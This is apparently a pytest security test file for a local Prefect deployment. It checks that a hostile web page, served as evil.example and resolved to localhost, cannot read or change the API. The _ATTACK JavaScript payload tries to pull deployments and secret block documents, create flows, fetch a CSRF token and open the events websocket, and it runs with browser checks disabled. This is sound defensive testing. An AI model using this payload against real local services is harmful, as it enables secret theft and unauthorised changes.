"""A web page in a real browser on this machine cannot reach Prefect's server; the user's own page can."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from deployments.serve import declared
from tests.deploy.browser import NoBrowser, Page, browser
from tests.deploy.service import eventually
from tests.deploy.serving import Serving, served
from tests.flows.own_prefect import api, free_port

pytestmark = pytest.mark.slow

#: A name of the attacker's that leads to this machine; and the browser's own check of such pages is off.
_ARGUMENTS = ("--host-resolver-rules=MAP evil.example 127.0.0.1", "--disable-features=LocalNetworkAccessChecks")
#: Ask the API at a base for things worth having, and change something; what came of each.
_ATTACK = """(async base => {
  const tries = {
    deployments: ['/deployments/filter', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'}],
    secrets: ['/block_documents/filter', {method: 'POST', headers: {'Content-Type': 'application/json'},
                                          body: '{"include_secrets": true}'}],
    flow: ['/flows/', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"name": "attack"}'}],
    token: ['/csrf-token?client=attack', {}],
    plain: ['/flows/', {method: 'POST', headers: {'Content-Type': 'text/plain'}, body: '{"name": "attack"}'}],
    blind: ['/flows/', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'},
                        body: '{"name": "attack"}'}],
    ambient: ['/flows/', {method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"name": "attack"}'}],
  };
  const seen = {};
  for (const [name, [path, options]] of Object.entries(tries)) {
    try {
      const answer = await fetch(base + path, options);
      seen[name] = [answer.type, answer.status, await answer.text()];
    } catch (error) { seen[name] = ['refused', 0, String(error)]; }
  }
  seen.events = await new Promise(done => {
    const socket = new WebSocket(base.replace('http', 'ws') + '/events/out', ['prefect']);
    socket.onopen = () => socket.send('{"type": "auth"}');
    socket.onmessage = message => done(['open', 1, message.data]);
    socket.onclose = () => done(['refused', 0, '']);
    setTimeout(() => done(['silent', 0, '']), 10000);
  });
  return seen;
})"""


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    """The address of a foreign page."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>evil</title>")

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://evil.example:{server.server_port}/"
    server.shutdown()


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """A tab of a browser for which evil.example is this machine."""
    try:
        with browser(tmp_path_factory.mktemp("browser"), *_ARGUMENTS) as page:
            yield page
    except NoBrowser as error:
        pytest.skip(str(error))


@pytest.fixture(scope="module")
def serving(page: Page, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    """``make serve``, with an alert's address that nobody else may read."""
    hook = "http://127.0.0.1:9/only-for-us"
    with served(tmp_path_factory.mktemp("serving"), free_port(), HN_ALERTS_WEBHOOK_URL=hook) as serving:
        yield serving


def attacked(page: Page, base: str) -> dict[str, tuple[str, int, str]]:
    """Return the result of each attempt of the open page."""
    seen: dict[str, Any] = page.run(f"{_ATTACK}({json.dumps(base)})")
    return {name: (told[0], told[1], told[2]) for name, told in seen.items()}


def test_the_attack_succeeds_on_an_unguarded_prefect(page: Page, attacker: str, tmp_path: Path) -> None:
    with api(tmp_path) as (url, _):
        page.open(attacker)
        seen = attacked(page, url)
        assert (seen["deployments"][1], seen["secrets"][1], seen["events"][0]) == (200, 200, "open")
        assert seen["flow"][1] == 201


def test_a_page_of_the_web_reads_and_changes_nothing(page: Page, attacker: str, serving: Serving) -> None:
    flows = serving.post("/flows/count", {})
    page.open(attacker)

    seen = attacked(page, serving.api)

    assert {name for name, told in seen.items() if told[0] not in ("refused", "opaque")} == set()
    assert not any(told[2] for told in seen.values() if told[0] == "opaque")
    assert serving.post("/flows/count", {}) == flows


def test_a_page_whose_name_resolves_to_this_machine_gets_nothing(page: Page, serving: Serving) -> None:
    flows = serving.post("/flows/count", {})
    origin = serving.url.replace("127.0.0.1", "evil.example")
    page.open(f"{origin}/")
    assert page.shows("Invalid host header")

    seen = attacked(page, f"{origin}/api")  # of the same origin: neither CORS nor the browser says anything

    assert {name: told[1] for name, told in seen.items() if told[1] not in (0, 400)} == {}
    assert serving.post("/flows/count", {}) == flows


@pytest.mark.parametrize("path", ["/deployments/filter", "/block_documents/filter", "/flow_runs/filter", "/flows/"])
def test_another_user_of_the_machine_needs_the_string(serving: Serving, path: str) -> None:
    assert serving.refused(path) in (401, 403)
    assert serving.refused(path, Authorization="Basic aG5pbnRlbDo=") in (401, 403)
    assert httpx.get(f"{serving.api}/csrf-token?client=x", timeout=30).status_code == 401


def test_the_string_is_in_no_log_and_in_no_argument(serving: Serving) -> None:
    secret = serving.auth.partition(":")[2].encode()
    logs = [serving.log, *serving.prefect_home.glob("*.log")]
    assert len(logs) > 3
    assert [log for log in logs if secret in log.read_bytes()] == []
    arguments = {path: path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists()}
    assert [path for path, line in arguments.items() if secret in line] == []


def test_its_user_logs_in_once_and_sees_the_deployments(page: Page, serving: Serving, tmp_path: Path) -> None:
    page.open(f"{serving.url}/")
    eventually(lambda: page.run("!!document.querySelector('input[type=password]')"), "the login")
    page.type(serving.auth)
    eventually(lambda: page.shows("Work Pools") and not page.shows("Login"), "the dashboard")

    page.open(f"{serving.url}/deployments")  # a new page: the browser has kept the string

    eventually(lambda: page.shows("daily"), "the deployments")
    page.picture(tmp_path / "deployments.png")


def test_a_shell_with_the_profile_deploys_and_an_event_has_the_worker_run_a_day(serving: Serving) -> None:
    assert "daily" in serving.shell("deployment", "ls")
    assert "reconcile" in serving.shell("--no-prompt", "deploy", "--name", "reconcile")
    assert {one["name"] for one in serving.post("/deployments/filter", {})} == declared()
    event = ("--resource-id", "hn.day.2026-10-20", "--payload", '{"day": "2026-10-20", "source": "sample"}')
    serving.shell("event", "emit", "hn.day.requested", *event)

    def ran() -> list[Any]:
        wanted = {
            "deployments": {"name": {"any_": ["requested"]}},
            "flow_runs": {"state": {"type": {"any_": ["COMPLETED"]}}},
        }
        return list(serving.post("/flow_runs/filter", wanted))

    assert eventually(ran, "the run that the event asked for")[0]["parameters"]["day"] == "2026-10-20"
